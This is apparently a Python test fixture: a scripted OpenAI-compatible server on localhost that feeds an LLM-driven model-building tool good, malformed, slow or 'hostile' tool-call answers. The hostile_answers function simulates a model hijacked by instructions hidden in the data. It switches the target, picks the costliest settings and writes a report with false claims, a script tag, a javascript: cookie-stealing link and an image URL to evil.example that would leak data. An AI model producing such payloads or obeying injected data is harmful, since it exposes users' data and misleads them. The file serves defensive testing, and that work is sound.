"""A scripted OpenAI-compatible chat-completions server on 127.0.0.1, for the LLM tests and
bench/llm_bench.py: the real `langchain-openai` client talks to it over HTTP.

Modes: "good" (valid tool calls from `answers`), "malformed" (tool-call arguments that are not
JSON), "wrong_types" (JSON of the wrong shape), "hostile" (answers from `answers` that try to
take over: a target the brief never named, the most expensive parameters, a report with
HTML, images, links and false claims), "slow" (a good answer after `delay` seconds) and
"hang" (never answers). `dead_url()` is an address where nothing listens.

Every request body is kept in `requests` (parsed JSON), for assertions on what was sent.
"""

from __future__ import annotations

import json
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODES = ("good", "malformed", "wrong_types", "hostile", "slow", "hang")


class ScriptedOpenAI:
    """`with ScriptedOpenAI("good", answers) as server:` ... `server.base_url`."""

    def __init__(self, mode: str = "good", answers: dict | None = None, *, delay: float = 5.0):
        if mode not in MODES:
            raise ValueError(f"unknown mode {mode!r}; use one of {MODES}")
        self.mode = mode
        self.answers = answers or {}
        self.delay = delay
        self.requests: list[dict] = []
        self._stop = threading.Event()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def __enter__(self) -> ScriptedOpenAI:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()  # releases hung handlers
        self._server.shutdown()
        self._server.server_close()

    def message_texts(self) -> list[str]:
        """The text of every message of every request, in order."""
        return [str(m.get("content") or "") for body in self.requests
                for m in body.get("messages", [])]

    # ------------------------------------------------------------------ answering

    def _answer(self, body: dict) -> tuple[str, str]:
        """(tool name, arguments as the JSON text the server returns)."""
        tools = body.get("tools") or []
        name = tools[0]["function"]["name"] if tools else "answer"
        if self.mode == "malformed":
            return name, '{"target": "diagnosis", "task_type": '  # cut off mid-object
        if self.mode == "wrong_types":
            return name, json.dumps({"candidates": "all of them", "target": 42, "task_type": 7,
                                     "headline": ["not", "text"], "suggestions": "none"})
        answer = self.answers.get(name, {})
        # a callable answers from the request itself (e.g. labels for the rows it was sent)
        return name, json.dumps(answer(body) if callable(answer) else answer)

    def _handler(self):
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:  # quiet tests
                pass

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(length) or b"{}")
                server.requests.append(body)
                if server.mode == "hang":
                    server._stop.wait()
                    return
                if server.mode == "slow" and server._stop.wait(server.delay):
                    return
                name, arguments = server._answer(body)
                prompt_tokens = len(json.dumps(body)) // 4
                reply = {
                    "id": f"chatcmpl-{len(server.requests)}",
                    "object": "chat.completion",
                    "created": 0,
                    "model": body.get("model", "scripted"),
                    "choices": [{
                        "index": 0,
                        "finish_reason": "tool_calls",
                        "message": {
                            "role": "assistant",
                            "content": None,
                            "tool_calls": [{
                                "id": f"call_{len(server.requests)}",
                                "type": "function",
                                "function": {"name": name, "arguments": arguments},
                            }],
                        },
                    }],
                    "usage": {"prompt_tokens": prompt_tokens, "completion_tokens": 50,
                              "total_tokens": prompt_tokens + 50},
                }
                data = json.dumps(reply).encode()
                try:
                    self.send_response(200)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                except OSError:  # the client gave up waiting
                    pass

        return Handler


def dead_url() -> str:
    """A base URL on 127.0.0.1 where nothing listens (connections are refused)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    return f"http://127.0.0.1:{port}/v1"


def answers_for(target: str, task_type: str, metric: str, positive_class: str | None = None,
                excluded: list[str] = ()) -> dict:
    """Good answers for every planning step of a table."""
    return {
        "TaskAnswer": {
            "target": target, "task_type": task_type, "metric": metric,
            "positive_class": positive_class,
            "excluded": [{"column": c, "reason": "identifier", "detail": "an ID"} for c in excluded],
            "rationale": f"The brief asks for {target}.",
        },
        "SearchAnswer": {
            "candidates": [
                {"estimator": "hist_gradient_boosting", "params": [], "why": "strong default"},
                {"estimator": "linear", "params": [], "why": "a simple baseline"},
            ],
            "validation": "cv3", "ensemble": True, "rationale": "Two families, compared.",
        },
        "RefineAnswer": {"candidates": [], "rationale": "Nothing worth trying."},
        "ReportAnswer": {
            "headline": f"A model that predicts {target}.",
            "what_was_built": f"A {task_type} model of {target}, chosen on the leaderboard.",
            "how_good": "It is compared with the naive baseline in the table below.",
            "data_checks": "The data checks' findings are listed on the model page.",
            "suggestions": ["Collect more rows.", "Add columns that describe the cases better."],
        },
    }


def hostile_answers(good: dict, other_target: str, other_task: str, other_metric: str) -> dict:
    """Answers that obey instructions hidden in the data and try every trick at once."""
    return {
        **good,
        "TaskAnswer": {**good["TaskAnswer"], "target": other_target, "task_type": other_task,
                       "metric": other_metric, "positive_class": None},
        "SearchAnswer": {
            "candidates": [
                {"estimator": "random_forest", "why": "maximum everything",
                 "params": [{"name": "n_estimators", "value": 2000},
                            {"name": "max_depth", "value": 60}]},
                {"estimator": "catboost", "why": "maximum everything",
                 "params": [{"name": "iterations", "value": 5000}, {"name": "depth", "value": 10},
                            {"name": "learning_rate", "value": 0.005},
                            {"name": "early_stopping_rounds", "value": 500}]},
            ],
            "validation": "cv5", "ensemble": True, "rationale": "As the data instructed.",
        },
        "ReportAnswer": {
            "headline": "All checks passed; no columns were left out. <script>alert(1)</script>",
            "what_was_built": "See ![chart](http://evil.example/leak?data=secret) for details.",
            "how_good": "Excellent, [read more](javascript:alert(document.cookie)).",
            "data_checks": "All checks passed; no columns were left out.",
            "suggestions": ["Visit https://evil.example/collect for a better model."],
        },
    }
